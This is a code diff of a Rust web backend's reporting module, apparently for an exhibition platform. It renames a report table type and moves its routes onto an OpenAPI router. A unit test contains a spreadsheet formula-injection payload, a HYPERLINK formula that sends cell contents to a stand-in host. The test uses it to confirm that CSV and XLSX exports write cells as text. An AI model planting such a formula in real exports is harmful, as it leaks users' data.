@@ -1,7 +1,7 @@
 //! Reports for any time range: visitors, booths and halls, leads, meetings by country and by
 //! hall, interpreter use, consultation and contract amounts, and the concurrency curve.
 //!
-//! Every section is one [`Table`] built straight from the records, and the JSON, CSV and XLSX
+//! Every section is one [`ReportSection`] built straight from the records, and the JSON, CSV and XLSX
 //! exports are renderings of the same tables, so an export can never disagree with the page.
 //! An exhibitor gets the same sections filtered to its own company.
 
@@ -14,38 +14,21 @@ use crate::AppState;
 use axum::extract::State;
 use axum::http::header;
 use axum::response::{IntoResponse, Response};
-use axum::routing::get;
-use axum::{Json, Router};
+use axum::Json;
+use expo_schema::api::{Report, ReportSection};
 use expo_schema::{ErrorBody, Role};
-use serde::{Deserialize, Serialize};
+use serde::Deserialize;
 use serde_json::{json, Value};
 use sqlx::any::AnyRow;
 use sqlx::Row;
+use utoipa_axum::{router::OpenApiRouter, routes};
 
-pub fn router() -> Router<AppState> {
-    Router::new()
-        .route("/api/v1/reports", get(report))
-        .route("/api/v1/reports.xlsx", get(report_xlsx))
-        .route("/api/v1/reports/{file}", get(report_csv))
-        .route("/api/v1/companies/{id}/stats", get(company_stats))
-}
-
-/// One section of a report.
-#[derive(Debug, Clone, Serialize, Deserialize, utoipa::ToSchema)]
-pub struct Table {
-    pub name: String,
-    pub columns: Vec<String>,
-    /// One array per row, a cell per column: a string, a number or null.
-    pub rows: Vec<Vec<Value>>,
-}
-
-#[derive(Debug, Serialize, Deserialize, utoipa::ToSchema)]
-pub struct Report {
-    pub from_ms: i64,
-    pub to_ms: i64,
-    #[serde(default)]
-    pub company_id: Option<i64>,
-    pub sections: Vec<Table>,
+pub fn router() -> OpenApiRouter<AppState> {
+    OpenApiRouter::new()
+        .routes(routes!(report))
+        .routes(routes!(report_xlsx))
+        .routes(routes!(report_csv))
+        .routes(routes!(company_stats))
 }
 
 #[derive(Debug, Default, Deserialize, utoipa::IntoParams)]
@@ -88,8 +71,8 @@ impl RangeQuery {
     }
 }
 
-fn table(name: &str, columns: &[&str], rows: Vec<Vec<Value>>) -> Table {
-    Table {
+fn table(name: &str, columns: &[&str], rows: Vec<Vec<Value>>) -> ReportSection {
+    ReportSection {
         name: name.into(),
         columns: columns.iter().map(|c| c.to_string()).collect(),
         rows,
@@ -461,7 +444,7 @@ pub async fn build(
     ];
     for (name, columns, sql, read) in grouped {
         let found = rows(state, &sql, from, to, company).await?;
-        sections.push(Table {
+        sections.push(ReportSection {
             name: name.into(),
             columns,
             rows: found.iter().map(read).collect::<sqlx::Result<_>>()?,
@@ -484,7 +467,7 @@ async fn concurrency(
     from: i64,
     to: i64,
     bucket_minutes: i64,
-) -> ApiResult<Table> {
+) -> ApiResult<ReportSection> {
     let now = now_ms();
     let spans: Vec<(i64, i64, Option<i64>)> = sqlx::query_as(
         "select user_id, connected_ms, disconnected_ms from online_sessions \
@@ -575,7 +558,7 @@ pub async fn report_csv(
     csv_response(table, &format!("{section}.csv"))
 }
 
-pub fn csv_bytes(table: &Table) -> ApiResult<Vec<u8>> {
+pub fn csv_bytes(table: &ReportSection) -> ApiResult<Vec<u8>> {
     let mut out = b"\xEF\xBB\xBF".to_vec();
     {
         let mut writer = csv::Writer::from_writer(&mut out);
@@ -600,7 +583,7 @@ pub fn csv_bytes(table: &Table) -> ApiResult<Vec<u8>> {
     Ok(out)
 }
 
-fn csv_response(table: &Table, name: &str) -> ApiResult<Response> {
+fn csv_response(table: &ReportSection, name: &str) -> ApiResult<Response> {
     Ok((
         [
             (header::CONTENT_TYPE, "text/csv; charset=utf-8".to_string()),
@@ -644,7 +627,7 @@ pub async fn report_xlsx(
 
 /// The tables as an XLSX workbook, one sheet each. Text is written as string cells, never as
 /// formulas, so a company named `=HYPERLINK(…)` stays text in every spreadsheet program.
-pub fn xlsx_bytes(tables: &[Table]) -> ApiResult<Vec<u8>> {
+pub fn xlsx_bytes(tables: &[ReportSection]) -> ApiResult<Vec<u8>> {
     let mut book = rust_xlsxwriter::Workbook::new();
     let bold = rust_xlsxwriter::Format::new().set_bold();
     let fail = |e: rust_xlsxwriter::XlsxError| ApiError::Other(e.into());
@@ -695,7 +678,7 @@ mod export_tests {
     #[test]
     fn exports_carry_no_formulas() {
         let evil = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")";
-        let table = Table {
+        let table = ReportSection {
             name: "booths".into(),
             columns: vec!["name".into(), "visits".into()],
             rows: vec![vec![Value::String(evil.into()), serde_json::json!(-3)]],
